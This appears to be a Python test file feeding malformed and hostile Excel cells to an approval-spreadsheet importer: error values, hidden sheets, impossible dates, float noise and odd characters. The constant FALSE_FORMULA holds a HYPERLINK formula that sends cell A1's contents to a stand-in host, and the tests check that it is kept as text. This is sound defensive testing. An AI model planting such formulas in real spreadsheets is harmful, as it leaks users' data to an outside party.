"""Line 9 and the values: errors, formulas without a result, odd numbers, dates and texts."""

from tests.excel import rawbook
from tests.excel.rawbook import zipped
from tests.hostile.case import (
    STYLED,
    amount,
    book,
    day,
    header,
    hostile,
    parts,
    row,
    table,
    text,
)

FALSE_FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'


@hostile(9, "excel_error", rows=[{"amount": None}])
def an_error_of_excel(no: str) -> bytes:
    """A formula that went wrong is neither blank nor zero."""
    return book(table(no, amount='<c r="G{at}" t="e"><f>1/0</f><v>#DIV/0!</v></c>'))


@hostile(9, "excel_error", rows=[{"decision": None}])
def an_error_in_a_choice(no: str) -> bytes:
    """A lookup that found nothing."""
    return book(table(no, decision='<c r="F{at}" t="e"><v>#N/A</v></c>'))


@hostile(9, "never_calculated", rows=[{"amount": None}])
def a_formula_without_a_result(no: str) -> bytes:
    """A program wrote the formula, and nobody opened the file in Excel."""
    return book(table(no, amount='<c r="G{at}"><f>SUM(A1:A9)</f></c>'))


@hostile(9, "never_calculated", rows=[{"amount": None}])
def a_formula_with_an_empty_result(no: str) -> bytes:
    """An empty value element is no result either."""
    return book(table(no, amount='<c r="G{at}"><f>SUM(A1:A9)</f><v></v></c>'))


@hostile(9, rows=[{"amount": None}])
def a_formula_whose_result_is_empty(no: str) -> bytes:
    """="" is a blank on purpose."""
    return book(table(no, amount='<c r="G{at}" t="str"><f>""</f><v></v></c>'))


@hostile(9, "missing", rows=[{"reference": None}])
def a_required_cell_of_spaces(no: str) -> bytes:
    """Blanks and invisible spaces are nothing."""
    return book(table(no, reference=text("reference", 2, " \u3000\u200b\u00a0")))


@hostile(9, "nameless_column", rows=[{"note": None}])
def a_column_without_a_title(no: str) -> bytes:
    """A header was deleted by mistake: what stands below it is not lost without a word."""
    return book(table(no).replace(text("note", 1, "意见"), '<c r="H1"/>'))


@hostile(9, "merged", rows=[{}])
def merged_cells(no: str) -> bytes:
    """Only the first of merged cells has a value."""
    return book(table(no), '<mergeCells><mergeCell ref="G2:H3"/></mergeCells>')


@hostile(9, "hidden_rows", rows=[{}])
def a_hidden_row(no: str) -> bytes:
    """Hidden rows count, and are named."""
    return book(header() + row(no).replace('r="2">', 'r="2" hidden="1">', 1))


@hostile(9, "hidden_rows", rows=[{}, {"approval_no": "F-1"}])
def a_filtered_row(no: str) -> bytes:
    """A filter hides rows."""
    second = row("F-1", 3).replace('r="3">', 'r="3" hidden="true">', 1)
    after = (
        '<autoFilter ref="A1:H3"><filterColumn colId="0"><filters><filter val="x"/></filters>'
        "</filterColumn></autoFilter>"
    )
    return book(table(no) + second, after)


@hostile(9, "hidden_sheet", rows=[{}])
def a_hidden_sheet(no: str) -> bytes:
    """Nobody sees it, and it counts."""
    return _with_state(no, "hidden")


@hostile(9, "hidden_sheet", rows=[{}])
def a_very_hidden_sheet(no: str) -> bytes:
    """Excel's menus do not even offer to show it."""
    return _with_state(no, "veryHidden")


def _with_state(no: str, state: str) -> bytes:
    files = parts(table(no))
    xml = str(files["xl/workbook.xml"]).replace("<sheet ", f'<sheet state="{state}" ')
    return zipped(files | {"xl/workbook.xml": xml})


@hostile(9, "sheet_titles_equal")
def two_sheets_of_one_name(no: str) -> bytes:
    """Excel does not allow it; other programs write it."""
    one = rawbook.sheet(table(no))
    return zipped(rawbook.book(one, one, titles=("审批", "审批"), styled=STYLED))


@hostile(9, "sheet_twice")
def one_sheet_in_two_languages(no: str) -> bytes:
    """Which of them counts is unknown."""
    one = rawbook.sheet(table(no))
    return zipped(rawbook.book(one, one, titles=("审批", "Approvals"), styled=STYLED))


@hostile(10, "cell_unreadable")
def a_number_beyond_all_numbers(no: str) -> bytes:
    """1E309 is no number that a cell can hold."""
    return book(table(no, **amount("1E309")))


@hostile(10, "too_large", rows=[{"amount": None}])
def a_number_beyond_all_money(no: str) -> bytes:
    """1E308 is one."""
    return book(table(no, **amount("1E308")))


@hostile(10, "cell_unreadable")
def a_number_in_words(no: str) -> bytes:
    """NaN is no number that Excel writes."""
    return book(table(no, **amount("NaN")))


@hostile(10, rows=[{"amount": 0}])
def minus_zero(no: str) -> bytes:
    """Zero has no sign."""
    return book(table(no, **amount("-0")))


@hostile(10, rows=[{"amount": 7}])
def a_number_with_leading_zeros(no: str) -> bytes:
    """007 is seven."""
    return book(table(no, **amount("007")))


@hostile(10, "out_of_bounds", rows=[{"amount": None}])
def a_negative_amount(no: str) -> bytes:
    """Amounts are not negative here."""
    return book(table(no, **amount("-5")))


@hostile(10, "too_many_decimals", rows=[{"amount": None}])
def three_decimals_of_money(no: str) -> bytes:
    """Refused, not rounded."""
    return book(table(no, **amount("1.005")))


@hostile(10, "not_a_number", rows=[{"amount": None}])
def an_amount_with_a_comma_for_its_point(no: str) -> bytes:
    """1.234,50 can mean two numbers."""
    return book(table(no, amount=text("amount", 2, "1.234,50")))


@hostile(10, "not_a_number", rows=[{"amount": None}])
def a_truth_for_an_amount(no: str) -> bytes:
    """TRUE is not 1."""
    return book(table(no, **amount("1", ' t="b"')))


@hostile(10, "date_for_a_number", rows=[{"amount": None}])
def an_amount_that_shows_as_a_date(no: str) -> bytes:
    """Excel made a date of 11-3."""
    return book(table(no, **amount("46329", ' s="1"')))


@hostile(10, "number_for_a_date", rows=[{"decided_on": None}])
def a_date_without_its_format(no: str) -> bytes:
    """46327 may be a date or a slip."""
    return book(table(no, **day("46327", "")))


@hostile(10, "no_such_day", rows=[{"decided_on": None}])
def a_day_that_never_was(no: str) -> bytes:
    """30 February."""
    return book(table(no, decided_on=text("decided_on", 2, "2026-02-30")))


@hostile(10, "cell_unreadable")
def a_date_of_another_kind(no: str) -> bytes:
    """A cell that says it holds an ISO date, and holds 24."""
    return book(table(no, **day("24", ' t="d"')))


@hostile(10, "outside_dates", rows=[{"decided_on": None}])
def a_date_of_the_last_century(no: str) -> bytes:
    """A typed 1 in a date column shows as 1900-01-01."""
    return book(table(no, **day("61")))


@hostile(11, rows=[{"amount": 60}])
def float_noise(no: str) -> bytes:
    """What Excel stores for 19.99 x 3 + 0.03."""
    return book(table(no, **amount("59.999999999999993")))


@hostile(12, "read_leniently", rows=[{"reference": "1001"}])
def a_number_for_a_code(no: str) -> bytes:
    """A code typed without its apostrophe."""
    return book(table(no, reference='<c r="C{at}"><v>1001</v></c>'))


@hostile(12, "not_a_code", rows=[{"reference": None}])
def a_code_of_sixteen_digits_as_a_number(no: str) -> bytes:
    """Excel has lost its last digit already."""
    return book(table(no, reference='<c r="C{at}"><v>1234567890123456</v></c>'))


@hostile(13, rows=[{"note": FALSE_FORMULA}])
def a_text_that_looks_like_a_formula(no: str) -> bytes:
    """A text it is, and stays."""
    return book(table(no, note=text("note", 2, FALSE_FORMULA)))


@hostile(13, rows=[{"note": "\ufffd\u202e😀\u200f"}])
def strange_characters(no: str) -> bytes:
    """Half an emoji, a mark that turns the reading direction, a whole emoji."""
    return book(table(no, note=text("note", 2, "_xD83D_\u202e😀\u200f")))


@hostile(13, "read_leniently", rows=[{"note": "ab"}])
def a_control_character_in_disguise(no: str) -> bytes:
    """Excel's own escape for what XML cannot hold."""
    return book(table(no, note=text("note", 2, "a_x0007_b")))
